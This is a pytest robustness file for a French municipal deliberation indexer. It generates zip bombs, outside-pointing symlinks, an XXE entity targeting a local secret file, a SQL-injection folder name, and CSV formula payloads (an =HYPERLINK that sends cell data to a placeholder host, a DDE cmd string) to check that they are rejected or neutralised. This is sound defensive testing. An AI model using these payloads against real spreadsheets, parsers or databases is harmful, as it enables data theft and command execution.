"""Fuzz-style robustness set (issue 15): hostile and unlucky files, made at test time by
tests/hostile_files.py, each dropped into the same small folder of good files.

Every import case asserts four things:
1. the import finishes (no exception, not cancelled);
2. the bad file is reported with the right reason code;
3. the good files are imported;
4. the library equals a clean import of the good files alone: acts, passages, keyword documents
   (count and which act/page each one is) and vectors.

The hashing embedder stands in for the real one where the vector count is not the point; one case
goes through the real default embedder (marked slow). Environment cases (read-only, damaged, full
disk, locked) check the exception class the CLI turns into exit code 3.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import hostile_files as hf
import pytest

from indexer import Library
from indexer.consistency import snapshot
from indexer.errors import (
    DiskFull,
    IndexNotWritable,
    LibraryLocked,
    LibraryReadOnly,
    NoLibraryHere,
    Reason,
)
from indexer.lock import import_lock
from indexer.progress import Progress

REPO = Path(__file__).resolve().parent.parent
GOOD = ("commune/2021/delib_01.txt", "commune/2022/delib_02.txt", "commune/2022/delib_03.pdf",
        "commune/2023/delib_04.docx", "commune/2023/delib_05.odt")


def make_good(folder: Path) -> Path:
    """Five good files of the formats a mairie keeps, generated (nothing committed)."""
    hf.good_txt(folder / GOOD[0], 1)
    hf.good_txt(folder / GOOD[1], 2)
    hf.text_pdf(folder / GOOD[2], hf.deliberation_text(3).splitlines())
    hf.docx(folder / GOOD[3], hf.deliberation_text(4).splitlines())
    hf.odt(folder / GOOD[4], hf.deliberation_text(5).splitlines())
    return folder


@pytest.fixture(scope="module")
def reference(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """A clean import of the good files alone."""
    base = tmp_path_factory.mktemp("reference")
    folder = make_good(base / "dossier")
    with Library(base / "data", embedder="hashing", ocr_enabled=False) as lib:
        report = lib.import_folder(folder)
        assert report.imported == len(GOOD) and not report.failed
        return snapshot(lib)


# ------------------------------------------------------------------------------------------- import cases
# Each case: (builder(folder) -> reported path, expected reason code, reported as failure (True) or warning)


def _case_bad_name(folder: Path) -> str:
    hf.non_utf8_name(folder, hf.deliberation_text(9).encode())
    return "deliberation_\ufffd.txt"


def _case_zip_bomb_docx(folder: Path) -> str:
    hf.docx_bomb(folder / "bombe.docx", 40 * 1024 * 1024)  # the budget is 32 MB
    return "bombe.docx"


def _case_zip_bomb_odt(folder: Path) -> str:
    hf.odt_bomb(folder / "bombe.odt", 40 * 1024 * 1024)
    return "bombe.odt"


def _case_paragraph_bomb(folder: Path) -> str:
    """Under the byte budget, but a flood of tiny paragraphs (each costs Python time). The budget is
    scaled down by the test (2,000 instead of 150,000) so that it costs milliseconds, not seconds;
    bench/bench_zip_bomb.py measures the real one on a 30 MB bomb."""
    hf.docx_bomb(folder / "paragraphes.docx", 200 * 1024)
    return "paragraphes.docx"


def _case_link_outside(folder: Path) -> str:
    secret = folder.parent / "hors_du_dossier.txt"
    secret.write_text(hf.deliberation_text(7), encoding="utf-8")
    hf.link(folder / "commune" / "raccourci.txt", secret)
    return "commune/raccourci.txt"


def _case_folder_link_outside(folder: Path) -> str:
    outside = folder.parent / "autre_dossier"
    hf.good_txt(outside / "delib.txt", 8)
    hf.link(folder / "partage", outside)
    return "partage/"


def _case_link_loop(folder: Path) -> str:
    hf.link_loop(folder)
    return "boucle.pdf"


def _case_broken_link(folder: Path) -> str:
    hf.link(folder / "disparu.pdf", folder / "n_existe_pas.pdf")
    return "disparu.pdf"


def _case_long_path(folder: Path) -> str:
    hf.over_long_path(folder, hf.deliberation_text(6).encode())
    return "sous-dossier-au-nom-tres-long-"


def _case_corrupt_docx(folder: Path) -> str:
    hf.corrupt_zip(folder / "abime.docx")
    return "abime.docx"


def _case_corrupt_odt(folder: Path) -> str:
    path = folder / "abime.odt"
    path.write_bytes(b"PK\x05\x06" + b"\x00" * 18)  # an empty zip: no content.xml
    return "abime.odt"


def _case_docx_without_body(folder: Path) -> str:
    with zipfile.ZipFile(folder / "sans_corps.docx", "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    return "sans_corps.docx"


def _case_broken_xml_docx(folder: Path) -> str:
    with zipfile.ZipFile(folder / "xml_casse.docx", "w") as archive:
        archive.writestr("word/document.xml", "<w:document xmlns:w='x'><w:body><w:p>")
    return "xml_casse.docx"


def _case_xxe_docx(folder: Path) -> str:
    """An external entity pointing at a file outside: never resolved, never read."""
    secret = folder.parent / "secret.txt"
    secret.write_text("MOTDEPASSESECRET", encoding="utf-8")
    body = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]>'
            f'<w:document xmlns:w="{hf._W}"><w:body><w:p><w:r><w:t>Objet : essai &x; fin</w:t></w:r></w:p>'
            "</w:body></w:document>")
    with zipfile.ZipFile(folder / "xxe.docx", "w") as archive:
        archive.writestr("word/document.xml", body)
    return "xxe.docx"


def _case_binary_txt(folder: Path) -> str:
    hf.binary_txt(folder / "binaire.txt")
    return "binaire.txt"


def _case_nul_txt(folder: Path) -> str:
    (folder / "nul.txt").write_bytes(b"\x00\x01\x02" * 300)
    return "nul.txt"


def _case_bad_doc(folder: Path) -> str:
    hf.bad_doc(folder / "ancien.doc")
    return "ancien.doc"


def _case_empty_pdf(folder: Path) -> str:
    (folder / "vide.pdf").write_bytes(b"")
    return "vide.pdf"


def _case_not_a_pdf(folder: Path) -> str:
    (folder / "faux.pdf").write_text("Ceci est un courrier, pas un PDF.", encoding="utf-8")
    return "faux.pdf"


def _case_truncated_pdf(folder: Path) -> str:
    data = hf.text_pdf(folder / "tmp.pdf", ["Objet : tronque"]).read_bytes()
    (folder / "tmp.pdf").unlink()
    (folder / "tronque.pdf").write_bytes(data[:120])
    return "tronque.pdf"


def _case_encrypted_pdf(folder: Path) -> str:
    pypdf = pytest.importorskip("pypdf")
    writer = pypdf.PdfWriter(clone_from=str(hf.text_pdf(folder.parent / "clair.pdf", ["Objet : secret"])))
    writer.encrypt("motdepasse")
    with open(folder / "protege.pdf", "wb") as fh:
        writer.write(fh)
    return "protege.pdf"


def _case_text_only_spaces(folder: Path) -> str:
    (folder / "blanc.txt").write_text(" \n\n\t \f \n", encoding="utf-8")
    return "blanc.txt"


CASES: dict[str, tuple[Callable[[Path], str], str, bool]] = {
    "nom non UTF-8": (_case_bad_name, Reason.BAD_NAME, True),
    "bombe zip .docx": (_case_zip_bomb_docx, Reason.INFLATES_TOO_MUCH, True),
    "bombe zip .odt": (_case_zip_bomb_odt, Reason.INFLATES_TOO_MUCH, True),
    "bombe de paragraphes": (_case_paragraph_bomb, Reason.INFLATES_TOO_MUCH, True),
    "lien hors du dossier": (_case_link_outside, Reason.LINK_OUTSIDE, False),
    "lien de dossier hors du dossier": (_case_folder_link_outside, Reason.LINK_OUTSIDE, False),
    "lien qui boucle": (_case_link_loop, Reason.LINK_BROKEN, False),
    "lien cassé": (_case_broken_link, Reason.LINK_BROKEN, False),
    "chemin trop long": (_case_long_path, Reason.PATH_TOO_LONG, True),
    ".docx endommagé": (_case_corrupt_docx, Reason.OFFICE_CORRUPT, True),
    ".odt endommagé": (_case_corrupt_odt, Reason.OFFICE_CORRUPT, True),
    ".docx sans document.xml": (_case_docx_without_body, Reason.OFFICE_CORRUPT, True),
    ".docx au XML cassé": (_case_broken_xml_docx, Reason.OFFICE_CORRUPT, True),
    ".txt binaire sans NUL": (_case_binary_txt, Reason.NOT_TEXT, True),
    ".txt binaire avec NUL": (_case_nul_txt, Reason.NOT_TEXT, True),
    ".doc illisible": (_case_bad_doc, Reason.DOC_UNREADABLE, True),
    "PDF vide": (_case_empty_pdf, Reason.EMPTY, True),
    "faux PDF": (_case_not_a_pdf, Reason.NOT_PDF, True),
    "PDF tronqué": (_case_truncated_pdf, Reason.CORRUPT, True),
    "PDF protégé": (_case_encrypted_pdf, Reason.ENCRYPTED, True),
    ".txt sans texte": (_case_text_only_spaces, Reason.NO_TEXT, True),
}


def _expected_code(code: str) -> str:
    if code == Reason.DOC_UNREADABLE and not (shutil.which("antiword") or shutil.which("catdoc")):
        return Reason.DOC_NEEDS_TOOL
    return code


@pytest.mark.skipif(sys.platform == "win32", reason="links, byte file names and PATH_MAX are POSIX cases")
@pytest.mark.parametrize("name", list(CASES))
def test_one_bad_file_never_stops_the_folder(name: str, tmp_path: Path, reference: dict,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    build, code, as_failure = CASES[name]
    monkeypatch.setattr("indexer.extract.office.MAX_PARAGRAPHS", 2_000)  # the good files have < 40 each
    folder = make_good(tmp_path / "dossier")
    reported = build(folder)
    with Library(tmp_path / "data", embedder="hashing", ocr_enabled=False) as lib:
        report = lib.import_folder(folder)  # 1. it finishes
        assert not report.cancelled
        listed = report.failed if as_failure else report.warnings
        found = [f for f in listed if f.path.startswith(reported) or f.path == reported]
        assert found, f"{reported} absent du bilan : {report.failed} {report.warnings}"
        assert found[0].code == _expected_code(code)  # 2. the right reason…
        assert found[0].reason  # …in French, and never the PDF's reason for another format
        assert reported.endswith(".pdf") or found[0].code not in (Reason.CORRUPT, Reason.NOT_PDF, Reason.ENCRYPTED)
        assert report.imported == len(GOOD)  # 3. the good files
        assert not [f for f in report.warnings if f.code == Reason.DUPLICATE]
        assert snapshot(lib) == reference  # 4. nothing else, nothing less
    if as_failure:
        # the next import reports it again, reads nothing again, and the library does not move
        with Library(tmp_path / "data", embedder="hashing", ocr_enabled=False) as lib:
            again = lib.import_folder(folder)
            assert [f.code for f in again.failed if f.path.startswith(reported)] == [found[0].code]
            assert again.imported == 0
            assert snapshot(lib) == reference


def test_xxe_entities_are_never_resolved(tmp_path: Path, reference: dict) -> None:
    folder = make_good(tmp_path / "dossier")
    _case_xxe_docx(folder)
    with Library(tmp_path / "data", embedder="hashing", ocr_enabled=False) as lib:
        report = lib.import_folder(folder)
        assert report.imported == len(GOOD) + 1 or any(f.path == "xxe.docx" for f in report.failed)
        assert not lib.search("MOTDEPASSESECRET", mode="keyword")
        assert snapshot(lib, set(GOOD)) == snapshot_of_reference_good(reference)


def snapshot_of_reference_good(reference: dict) -> dict:
    return {**reference, "chunks": None, "vectors": None, "keyword_documents": None}


@pytest.mark.parametrize("kind", ["pdf-pypdf-surrogates", "utf16", "utf8-bom", "link-inside"])
def test_odd_but_readable_files_are_imported_with_clean_text(kind: str, tmp_path: Path, reference: dict) -> None:
    folder = make_good(tmp_path / "dossier")
    if kind == "pdf-pypdf-surrogates":
        extra = hf.pypdf_only_pdf(folder / "abime.pdf").name
    elif kind == "utf16":
        extra = hf.utf16_txt(folder / "bloc_notes.txt", hf.deliberation_text(11)).name
    elif kind == "utf8-bom":
        extra = "bom.txt"
        (folder / extra).write_bytes(b"\xef\xbb\xbf" + hf.deliberation_text(12).encode())
    else:
        extra = "raccourci.txt"
        hf.link(folder / extra, folder / GOOD[0])
    with Library(tmp_path / "data", embedder="hashing", ocr_enabled=False) as lib:
        report = lib.import_folder(folder)
        assert not report.failed, report.failed
        assert report.imported == len(GOOD) + 1
        record = lib.find_file(folder / extra)
        assert record is not None and record.pages >= 1
        text = lib.page_text(record.file_id, 1)
        assert text and not any("\ud800" <= ch <= "\udfff" or ch == "\x00" for ch in text)
        if kind in ("utf16", "utf8-bom"):
            assert text.startswith("Département du Loiret")
        assert snapshot(lib, set(GOOD)) == snapshot_of_reference_good(reference)
        if kind == "link-inside":  # read through its real path: the same content, reported as a copy
            assert [w.code for w in report.warnings] == [Reason.DUPLICATE]


def test_two_failed_files_keep_their_own_reasons(tmp_path: Path, reference: dict) -> None:
    """Two empty files have the same (empty) content: neither is « identique à un autre fichier »."""
    folder = make_good(tmp_path / "dossier")
    (folder / "vide.pdf").write_bytes(b"")
    (folder / "commune" / "vide.docx").write_bytes(b"")
    hf.corrupt_zip(folder / "a.docx")
    hf.corrupt_zip(folder / "b.odt")
    with Library(tmp_path / "data", embedder="hashing", ocr_enabled=False) as lib:
        report = lib.import_folder(folder)
        assert {f.path: f.code for f in report.failed} == {
            "vide.pdf": Reason.EMPTY, "commune/vide.docx": Reason.EMPTY,
            "a.docx": Reason.OFFICE_CORRUPT, "b.odt": Reason.OFFICE_CORRUPT}
        assert report.warnings == []
        assert snapshot(lib) == reference


def test_an_exception_in_any_library_becomes_that_files_failure(tmp_path: Path, reference: dict,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The isolation holds for bugs too: whatever a reader raises on one file, the folder goes on and
    the journal keeps the traceback."""
    from indexer import journal
    from indexer.extract import office

    folder = make_good(tmp_path / "dossier")
    hf.good_txt(folder / "piege.txt", 13)
    real = office.read_txt

    def flaky(path: Path):  # noqa: ANN202
        if path.name == "piege.txt":
            raise KeyError("un bogue dans une bibliothèque")
        return real(path)

    monkeypatch.setattr("indexer.extract.read_txt", flaky)
    data = tmp_path / "data"
    journal.attach(data)
    try:
        with Library(data, embedder="hashing", ocr_enabled=False) as lib:
            report = lib.import_folder(folder)
            assert [(f.path, f.code) for f in report.failed] == [("piege.txt", Reason.UNEXPECTED)]
            assert "journal" in report.failed[0].reason
            assert snapshot(lib) == reference
    finally:
        journal.detach()
    logged = journal.log_path(data).read_text(encoding="utf-8")
    assert "piege.txt" in logged and "Traceback" in logged and "KeyError" in logged


@pytest.mark.slow
def test_a_bad_file_with_the_real_embedder(tmp_path: Path) -> None:
    """Vectors too: the default embedder's vector count equals that of a clean import of the good files."""
    clean_folder = make_good(tmp_path / "propre")
    folder = make_good(tmp_path / "dossier")
    _case_bad_name(folder)
    hf.docx_bomb(folder / "bombe.docx", 40 * 1024 * 1024)
    with Library(tmp_path / "d1", ocr_enabled=False) as clean:
        clean.import_folder(clean_folder)
        want = snapshot(clean)
    with Library(tmp_path / "d2", ocr_enabled=False) as lib:
        report = lib.import_folder(folder)
        assert {f.code for f in report.failed} == {Reason.BAD_NAME, Reason.INFLATES_TOO_MUCH}
        got = snapshot(lib)
    assert got == want and got["vectors"] == got["chunks"] > 0


# ------------------------------------------------------------------------------------------- the lock (case 3)


def test_a_second_import_of_the_same_library_is_refused_at_once(tmp_path: Path, reference: dict) -> None:
    folder = make_good(tmp_path / "dossier")
    data = tmp_path / "data"
    with Library(data, embedder="hashing", ocr_enabled=False) as lib:
        with import_lock(data):  # another process importing, as the app's child or a second terminal would
            with pytest.raises(LibraryLocked) as refused:
                lib.import_folder(folder)
            assert "un import est déjà en cours" in refused.value.user_message.lower()
            with pytest.raises(LibraryLocked):
                lib.import_folder_isolated(folder)  # the app asks before starting a child
        assert lib.stats()["files"] == 0  # nothing was done by the refused import
        lib.import_folder(folder)  # released: the next one works
        assert snapshot(lib) == reference


@pytest.mark.skipif(sys.platform == "win32", reason="SIGKILL")
def test_a_killed_import_never_leaves_the_library_locked(tmp_path: Path) -> None:
    folder = make_good(tmp_path / "dossier")
    data = tmp_path / "data"
    code = ("import os, signal, sys\nfrom indexer import Library\n"
            "lib = Library(sys.argv[2], embedder='hashing', ocr_enabled=False)\n"
            "lib.import_folder(sys.argv[1], progress=lambda p: os.kill(os.getpid(), signal.SIGKILL))\n")
    done = subprocess.run([sys.executable, "-c", code, str(folder), str(data)], cwd=REPO, timeout=120)
    assert done.returncode == -signal.SIGKILL
    with Library(data, embedder="hashing", ocr_enabled=False) as lib:
        assert lib.import_folder(folder).imported == len(GOOD)


# ------------------------------------------------------------------------------------------- kill -9 (case 8)

_KILL_AFTER = """
import os, signal, sys
from indexer import Library
from indexer.consistency import snapshot
after = int(sys.argv[3])
def progress(p):
    if p.stage == "lecture" and p.done >= after:
        os.kill(os.getpid(), signal.SIGKILL)
Library(sys.argv[2], embedder="hashing", ocr_enabled=False).import_folder(sys.argv[1], progress=progress)
"""


@pytest.mark.skipif(sys.platform == "win32", reason="SIGKILL")
@pytest.mark.parametrize("after", [1, 12])  # bench/bench_kill_reimport.py kills at random moments
def test_kill_9_during_a_reimport_of_modified_files_converges(tmp_path: Path, after: int) -> None:
    """The keyword index ends with exactly the documents of a clean import: none of the old versions."""
    folder = tmp_path / "dossier"
    for i in range(20):
        hf.good_txt(folder / f"d{i:02d}.txt", i, version=1)
    data = tmp_path / "tuee"
    with Library(data, embedder="hashing", ocr_enabled=False) as lib:
        lib.import_folder(folder)
    for i in range(20):
        hf.good_txt(folder / f"d{i:02d}.txt", i, version=2)
    done = subprocess.run([sys.executable, "-c", _KILL_AFTER, str(folder), str(data), str(after)], cwd=REPO,
                          capture_output=True, timeout=300)
    assert done.returncode == -signal.SIGKILL, done.stderr.decode()[-1500:]
    with Library(data, embedder="hashing", ocr_enabled=False) as resumed:
        resumed.import_folder(folder)
        got = snapshot(resumed)
    with Library(tmp_path / "propre", embedder="hashing", ocr_enabled=False) as clean:
        clean.import_folder(folder)
        want = snapshot(clean)
    assert got["orphan_keyword_documents"] == 0
    assert got == want


# ------------------------------------------------------------------------------------------- environment (case 9)


def _root_can_chattr() -> bool:
    return os.name == "posix" and os.geteuid() == 0 and shutil.which("chattr") is not None


def _make_read_only(path: Path) -> Callable[[], None]:
    """chmod for a normal user; root ignores modes, so it gets the immutable attribute instead."""
    if os.name == "posix" and os.geteuid() == 0:
        if not _root_can_chattr() or subprocess.run(["chattr", "+i", str(path)], capture_output=True).returncode:
            pytest.skip("root without chattr: cannot make a file read-only")
        return lambda: subprocess.run(["chattr", "-i", str(path)], check=False)
    mode = path.stat().st_mode
    path.chmod(0o555 if path.is_dir() else 0o444)
    return lambda: path.chmod(mode)


def _digest(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and "journal" not in p.parts and p.name != "import.lock"
            and not p.name.endswith("-shm") and not (p.name.endswith("-wal") and p.stat().st_size == 0)}


@pytest.fixture
def imported(tmp_path: Path) -> tuple[Path, Path]:
    folder = make_good(tmp_path / "dossier")
    data = tmp_path / "data"
    with Library(data, embedder="hashing", ocr_enabled=False) as lib:
        lib.import_folder(folder)
    hf.good_txt(folder / "nouveau.txt", 14)
    return folder, data


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
def test_read_only_catalogue_is_said_and_nothing_is_touched(imported: tuple[Path, Path]) -> None:
    folder, data = imported
    before = _digest(data)
    undo = _make_read_only(data / "catalogue.sqlite3")
    try:
        with pytest.raises(LibraryReadOnly) as info, Library(data, embedder="hashing", ocr_enabled=False) as lib:
            lib.import_folder(folder)
        assert "lecture seule" in info.value.user_message
    finally:
        undo()
    assert _digest(data) == before


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
def test_read_only_index_folder_is_a_permission_not_a_damaged_index(imported: tuple[Path, Path]) -> None:
    folder, data = imported
    before = _digest(data)
    index = data / "index-mots-tantivy"
    undo = _make_read_only(index)
    try:
        with pytest.raises(IndexNotWritable) as info, Library(data, embedder="hashing", ocr_enabled=False) as lib:
            lib.import_folder(folder)
        assert "accessible en écriture" in info.value.user_message and "illisible" not in info.value.user_message
    finally:
        undo()
    assert _digest(data) == before


def test_damaged_catalogue_is_said_and_left_as_it_is(imported: tuple[Path, Path]) -> None:
    folder, data = imported
    (data / "catalogue.sqlite3").write_bytes(b"pas une base SQLite " * 100)
    for extra in data.glob("catalogue.sqlite3-*"):
        extra.unlink()
    before = _digest(data)
    from indexer.cli import exit_code_for

    with pytest.raises(Exception) as info:
        Library(data, embedder="hashing", ocr_enabled=False)
    code, text = exit_code_for(info.value, data)
    assert code == 3 and "endommagé" in text
    assert _digest(data) == before


def test_full_disk_is_said_in_french_and_the_import_resumes(imported: tuple[Path, Path], tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """tantivy's StorageFull (simulated at its real place: the keyword index's commit) stops the import
    with DiskFull; once space is back the same import completes and equals a clean one."""
    folder, data = imported
    from indexer.keyword_tantivy import TantivyKeywordIndex

    real = TantivyKeywordIndex.replace_files

    def full(self, file_ids, docs):  # noqa: ANN001, ANN202
        raise ValueError("Failed to open file for write: 'IoError { io_error: Custom { kind: StorageFull } }'")

    monkeypatch.setattr(TantivyKeywordIndex, "replace_files", full)
    with pytest.raises(DiskFull), Library(data, embedder="hashing", ocr_enabled=False) as lib:
        lib.import_folder(folder)
    monkeypatch.setattr(TantivyKeywordIndex, "replace_files", real)
    with Library(data, embedder="hashing", ocr_enabled=False) as lib:
        lib.import_folder(folder)
        got = snapshot(lib)
    with Library(tmp_path / "propre", embedder="hashing", ocr_enabled=False) as clean:
        clean.import_folder(folder)
        assert got == snapshot(clean)


@pytest.mark.skipif(not (sys.platform.startswith("linux") and os.geteuid() == 0), reason="mounts a tmpfs (root)")
def test_full_disk_for_real_on_a_tiny_tmpfs(tmp_path: Path) -> None:
    folder = tmp_path / "dossier"
    for i in range(120):
        hf.good_txt(folder / f"d{i:03d}.txt", i)
    data = tmp_path / "data"
    data.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=400k", "tmpfs", str(data)], capture_output=True).returncode:
        pytest.skip("mount refused")
    from indexer.cli import exit_code_for

    try:
        with pytest.raises(Exception) as info, Library(data, embedder="hashing", ocr_enabled=False) as lib:
            lib.import_folder(folder)
        code, text = exit_code_for(info.value, data)
        assert code == 3 and "plein" in text, text
    finally:
        subprocess.run(["umount", "-l", str(data)], check=False)


# ------------------------------------------------------------------------------------------- CLI (cases 9, 11)


@pytest.fixture
def cli(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture):
    """`registre …` run in this process (a subprocess per call would cost ~2 s each): (code, stdout, stderr)."""
    import argparse

    from indexer import journal
    from registre.cli import main

    monkeypatch.setenv("REGISTRE_EMBEDDER", "hashing")
    monkeypatch.setattr(argparse, "_", argparse._)  # restored after the test: main() makes argparse French
    monkeypatch.setattr(argparse, "ngettext", argparse.ngettext)

    def run(*args: str) -> tuple[int, str, str]:
        try:
            code = main(list(args))
        except SystemExit as exc:
            code = int(exc.code or 0)
        finally:
            journal.detach()
        out, err = capsys.readouterr()
        return code, out, err

    return run


def test_cli_exit_codes_and_french_messages(tmp_path: Path, cli) -> None:  # noqa: ANN001 - fixture
    folder = make_good(tmp_path / "dossier")
    data = tmp_path / "data"
    code, out, _err = cli("import", str(folder), "--data-dir", str(data), "--json", "--no-ocr")
    assert code == 0 and json.loads(out)["imported"] == len(GOOD)
    hf.binary_txt(folder / "binaire.txt")
    code, out, _err = cli("import", str(folder), "--data-dir", str(data), "--json", "--no-ocr")
    assert code == 1 and json.loads(out)["failed"][0]["code"] == Reason.NOT_TEXT
    refused = {
        ("search", "projet", "--filter", "annee=abcd"): "année invalide",
        ("search", "projet", "--filter", "date=2021-02-30"): "date invalide",
        ("search", "projet", "--filter", "matiere=x"): "matière invalide",
        ("search", "projet", "--top", "-1"): "entier positif",
        ("search", "projet", "--top", "0"): "entier positif",
        ("search", "projet", "--top", "dix"): "nombre entier attendu",
        ("search", "projet", "--mode", "tout"): "choix invalide",
        ("search",): "arguments obligatoires manquants",
        ("query", "combien de délibérations en 9999"): "ne peut dater de 9999",
        ("search", "projet", "--inconnu"): "arguments non reconnus",
    }
    for args, words in refused.items():
        code, _out, err = cli(*args, "--data-dir", str(data))
        assert code == 2, (args, err)
        assert words in err, (args, err)
        assert not any(w in err for w in ("usage:", "error:", "invalid ", "the following", "Traceback")), err
    code, out, _err = cli("search", "projet", "--data-dir", str(data), "--filter", "annee=2022", "--json")
    assert code == 0 and {h["date"][:4] for h in json.loads(out)} == {"2022"}
    typo = tmp_path / "dta"
    for args in (("search", "projet"), ("stats",), ("query", "combien de délibérations"), ("export-scdl", "x.csv")):
        code, _out, err = cli(*args, "--data-dir", str(typo))
        assert code == 2 and "Aucune bibliothèque ici" in err and not typo.exists(), (args, err)
    with import_lock(data):
        code, _out, err = cli("import", str(folder), "--data-dir", str(data), "--json", "--no-ocr")
    assert code == 3 and "un import est déjà en cours" in err.lower()
    (data / "catalogue.sqlite3").write_bytes(b"abime " * 500)
    for extra in data.glob("catalogue.sqlite3-*"):
        extra.unlink()
    code, _out, err = cli("stats", "--data-dir", str(data))
    assert code == 3 and "endommagé" in err and "Traceback" not in err


def test_the_apps_child_reports_a_refusal_with_its_french_message(tmp_path: Path) -> None:
    """The app imports in a child process: a locked library is said as such, not « Relancez-le »."""
    from indexer.errors import EnvironmentProblem
    from indexer.import_process import import_in_subprocess

    folder = make_good(tmp_path / "dossier")
    data = tmp_path / "data"
    data.mkdir()
    with import_lock(data), pytest.raises(EnvironmentProblem) as info:
        import_in_subprocess(folder, data, embedder="hashing", ocr=False)
    assert "un import est déjà en cours" in info.value.user_message.lower()


def test_no_library_is_created_except_by_import(tmp_path: Path) -> None:
    with pytest.raises(NoLibraryHere):
        Library(tmp_path / "absente", embedder="hashing", create=False)
    assert not (tmp_path / "absente").exists()


# ------------------------------------------------------------------------------------------- SCDL export (case 6)


def test_scdl_export_neutralises_formulas_and_keeps_objets_readable(tmp_path: Path) -> None:
    import csv

    folder = tmp_path / "dossier"
    objets = ['=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
              "+33 rue de la Mairie : bail", "Tarifs 2022 - cantine"]
    for i, objet in enumerate(objets):
        folder.mkdir(exist_ok=True)
        (folder / f"f{i}.txt").write_text(hf.deliberation_text(i, objet=objet), encoding="utf-8")
    with Library(tmp_path / "data", embedder="hashing", ocr_enabled=False) as lib:
        lib.import_folder(folder)
        out = tmp_path / "scdl.csv"
        assert lib.export_scdl(out) == len(objets)
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = sorted(r["DELIB_OBJET"] for r in rows)
    # the objet as the metadata reader gives it (it tidies some punctuation), with an apostrophe in front
    assert [c[:2] for c in cells] == ["'+", "'=", "'=", "'@", "Ta"]
    assert "'=HYPERLINK(" in cells[1] + cells[2] and cells[-1] == objets[4]
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
        assert row["VOTE_POUR"] == "10"  # numbers untouched


def test_neutralise_follows_the_owasp_rule() -> None:
    from indexer.csv_safe import neutralise

    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("\r=1") == "'\r=1"
    assert neutralise("- Travaux de voirie") == "'- Travaux de voirie"  # still readable, never run
    assert neutralise("Travaux - voirie") == "Travaux - voirie"
    assert neutralise(None) == "" and neutralise(12) == "12"


# ------------------------------------------------------------------------------------------- parameters (case 7)


def test_stats_with_a_model_folder_named_with_a_quote(tmp_path: Path, reference: dict) -> None:
    folder = make_good(tmp_path / "dossier")
    model = tmp_path / "modèle l'essai\"; DROP TABLE acts; --"
    model.mkdir()
    (model / "modules.json").write_text("[]")
    with Library(tmp_path / "data", embedder="hashing", ocr_enabled=False) as lib:
        lib.import_folder(folder)
    with Library(tmp_path / "data", embedder=str(model), ocr_enabled=False) as lib:
        stats = lib.stats()
        assert stats["acts"] == len(reference["acts"]) and stats["chunks_embedded"] == 0
        assert "l'essai" in stats["embedding_model"]


# ------------------------------------------------------------------------------------------- progress (case 12)


def test_vectorisation_progress_moves_in_small_steps(tmp_path: Path) -> None:
    folder = tmp_path / "dossier"
    for i in range(40):
        hf.good_txt(folder / f"d{i:02d}.txt", i)
    seen: list[Progress] = []
    with Library(tmp_path / "data", embedder="hashing", ocr_enabled=False) as lib:
        lib.import_folder(folder, progress=seen.append)
    embed = [p for p in seen if p.stage == "vectorisation"]
    steps = [p.done for p in embed]
    assert steps[0] == 0 and steps[-1] == embed[-1].total > 64
    assert max(b - a for a, b in zip(steps, steps[1:], strict=False)) <= 16  # a report every 16 passages


def test_the_cli_progress_line_moves_with_time(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture) -> None:
    from indexer import cli

    clock = iter(float(t) for t in range(0, 100, 1))
    monkeypatch.setattr(cli.time, "monotonic", lambda: next(clock))
    show = cli._progress_printer(True)
    assert show is not None
    for done in (0, 64, 128, 192, 256, 320, 384, 448, 512):
        show(Progress(done, 989, "vectorisation"))
    lines = [line for line in capsys.readouterr().err.splitlines() if line.startswith("[vectorisation]")]
    assert len(lines) >= 4 and lines[0].startswith("[vectorisation] 0/989") and "0/989" not in lines[-1]


def test_the_app_says_an_import_is_already_running(tmp_path: Path) -> None:
    """The window shows the lock's French sentence (the job's failure comes from import_folder_isolated)."""
    pytest.importorskip("PySide6")
    from app.jobs import JobFailure
    from app.session import failure_text

    data = tmp_path / "data"
    data.mkdir()
    with import_lock(data), Library(data, embedder="hashing", ocr_enabled=False) as lib:
        with pytest.raises(LibraryLocked) as info:
            lib.import_folder_isolated(make_good(tmp_path / "dossier"))
        text = failure_text(JobFailure(info.value, ""))
    assert text.startswith("Un import est déjà en cours")


def test_tantivy_commits_after_a_commit_killed_halfway(tmp_path: Path) -> None:
    """A commit killed after writing its files but before meta.json: the files stay behind, and the next
    commit (same opstamp, same names) used to fail with FileAlreadyExists on resume."""
    from indexer.keyword_base import KeywordDoc
    from indexer.keyword_tantivy import TantivyKeywordIndex

    def doc(act: int, file_id: int, word: str) -> KeywordDoc:
        return KeywordDoc(act, file_id, 1, f"objet {word}", f"texte {word}", None, None, None, None)

    folder = tmp_path / "index"
    index = TantivyKeywordIndex(folder)
    index.replace_files([1, 2], [doc(1, 1, "ancien"), doc(2, 2, "autre")])
    index.close()
    before = {"meta.json": (folder / "meta.json").read_bytes()}  # tantivy lists a file as its own before writing it
    index = TantivyKeywordIndex(folder)
    index.replace_files([1], [doc(3, 1, "nouveau")])  # the commit the kill interrupted…
    index.close()
    for name, content in before.items():  # …before meta.json was written
        (folder / name).write_bytes(content)
    resumed = TantivyKeywordIndex(folder)
    assert resumed.doc_count() == 2
    resumed.replace_files([1], [doc(3, 1, "nouveau")])
    assert sorted(resumed.documents()) == [(2, 1), (3, 1)]


